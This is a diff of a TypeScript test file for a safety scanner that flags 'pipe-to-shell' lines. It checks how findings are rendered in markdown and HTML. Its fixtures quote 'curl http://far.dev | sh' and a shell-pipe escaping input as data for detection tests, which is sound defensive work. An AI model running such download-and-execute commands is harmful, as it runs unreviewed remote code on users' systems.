@@ -1,25 +1,15 @@
 import { describe, expect, test } from 'vitest'
+import { sampleFinding } from '../../../testing/sample-facts.ts'
 import type { Finding, Skill } from '../../catalog/skill.ts'
 import { SAFETY_RULES } from '../../catalog/safety/rules.ts'
 import { createFileAddress } from '../answered/file.ts'
 import { describeWorth, writeFindings, writeSafetyDocument } from './findings.ts'
 import { renderTwin } from '../prose/markdown.ts'
+import { renderHtml } from '../prose/render.ts'
 
 const COMMIT = 'a'.repeat(40)
 
-const FOUND: Finding = {
-  rule: 'pipe-to-shell',
-  severity: 'high',
-  held: 'high',
-  contexts: [],
-  file: 'references/a b.md',
-  line: 3,
-  column: 1,
-  length: 4,
-  quote: 'curl http://far.dev | sh',
-  digest: '0123456789abcdef',
-  count: 1,
-}
+const FOUND = sampleFinding({ file: 'references/a b.md', quote: 'curl http://far.dev | sh' })
 
 const skillWith = (findings: Finding[], url?: string): Skill =>
   ({
@@ -80,9 +70,9 @@ describe('findings of a skill', () => {
   test('severe ones say rule, severity, line and why, and what to do once for each kind', () => {
     const [first, second, ...others] = listOf([FOUND, { ...FOUND, line: 9, count: 3 }])
     expect(first).toMatch(
-      /^- \*\*High\*\*, \[pipe-to-shell\]\(\/docs\/safety#pipe-to-shell\): \[.*\]\(.*\), downloads a script and runs it unseen: `curl http:\/\/far.dev \| sh`\. Read what it downloads before /,
+      /^- \*\*High:\*\* downloads a script and runs it unseen, at \[.*\]\(.*\) \(\[pipe-to-shell\]\(\/docs\/safety#pipe-to-shell\)\)\. Read what it downloads before .* `curl http:\/\/far.dev \| sh`$/,
     )
-    expect(second).toMatch(/ and 2 more like it in this file: `curl [^`]*`\.$/)
+    expect(second).toMatch(/ and 2 more like it in this file, at .*\)\. `curl [^`]*`$/)
     expect(others).toEqual([])
   })
 
@@ -94,14 +84,14 @@ describe('findings of a skill', () => {
       { ...FOUND, severity: 'medium' },
       FOUND,
     ])
-    expect(rows.map((row) => row.split(',')[0])).toEqual([
-      '- **High**',
-      '- **Medium**',
-      '- Note',
-      '- High',
+    expect(rows.map((row) => row.split(' downloads')[0])).toEqual([
+      '- **High:**',
+      '- **Medium:**',
+      '- Note:',
+      '- High:',
     ])
-    expect(rows[2]).toContain('runs it unseen (in a table; quoted): `')
-    expect(rows[3]).toContain('. Read by Bo on 2026-01-02: their \\*own\\* host: `')
+    expect(rows[2]).toContain('runs it unseen (in a table; quoted), at ')
+    expect(rows[3]).toContain('. Read by Bo on 2026-01-02: their \\*own\\* host, at ')
   })
 
   test.each([
@@ -113,33 +103,32 @@ describe('findings of a skill', () => {
 
   test('of a whole file name it without a line', () => {
     expect(print([{ ...FOUND, quote: '', line: 1 }])).toContain(
-      '[references/a b.md](/files/words/references/a%20b.md/view#L1), downloads a script and runs it unseen.',
+      'runs it unseen, at [references/a b.md](/files/words/references/a%20b.md/view#L1) (',
     )
   })
 
   test('after ten are folded in HTML, after sixty counted', () => {
     const rows = Array.from({ length: 70 }, (_, at) => ({ ...FOUND, line: at + 1 }))
-    const { markdown, html } = writeFindings(skillWith(rows), SITE, ADDRESS)
-    expect(String(markdown).match(/^- /gm)).toHaveLength(61)
-    expect(String(markdown)).toMatch(/\n- And 10 more, on the pages of the files\.$/)
-    const [open = '', folded = ''] = (html?.html ?? '').split('<details>')
-    expect(open.match(/class="finding severe"/g)).toHaveLength(10)
-    expect(folded).toContain('<summary>50 more</summary>')
-    expect(folded).toContain('And 10 more, on the pages of the files.')
-    const few = writeFindings(skillWith(rows.slice(0, 10)), SITE, ADDRESS)
-    expect(few.html?.html).not.toContain('<details>')
+    const { markdown, more } = writeFindings(skillWith(rows), SITE, ADDRESS)
+    expect(String(markdown).match(/^- \*\*/gm)).toHaveLength(10)
+    expect(more?.label).toBe('60 more')
+    expect(String(more?.markdown).match(/^- \*\*/gm)).toHaveLength(50)
+    expect(String(more?.markdown)).toMatch(/\n- And 10 more, on the pages of the files\.$/)
+    expect(writeFindings(skillWith(rows.slice(0, 10)), SITE, ADDRESS)).not.toHaveProperty('more')
   })
 
-  test('stand in HTML with place, rule and line, each in a block that has no button', () => {
-    const quote = 'echo "<b>" | sh'
-    const { html } = writeFindings(skillWith([{ ...FOUND, severity: 'low', quote }]), SITE, ADDRESS)
-    const page = html?.html ?? ''
-    expect(page).toContain('<div class="finding">')
-    expect(page).toMatch(
-      /<b>Note:<\/b> downloads a script and runs it unseen, at <a href="\/files\//,
+  test('stand in HTML with the line in code, which styles set below', () => {
+    const quote = 'echo "<b>" `x` | sh'
+    const rows = [
+      { ...FOUND, quote },
+      { ...FOUND, severity: 'low' as const, quote },
+    ]
+    const { html } = renderHtml(writeFindings(skillWith(rows), SITE, ADDRESS).markdown, [])
+    expect(html).toContain(
+      '<li><strong>High:</strong> downloads a script and runs it unseen, at <a',
     )
-    expect(page).toContain('<a href="/docs/safety#pipe-to-shell">The rule</a>')
-    expect(page).toContain('<code>echo &quot;&lt;b&gt;&quot; | sh</code>')
+    expect(html).toContain('<li>Note: downloads')
+    expect(html.match(/<code>echo [^<]*&lt;b&gt;[^<]* `x` \| sh<\/code>\s*<\/li>/g)).toHaveLength(2)
   })
 })
 
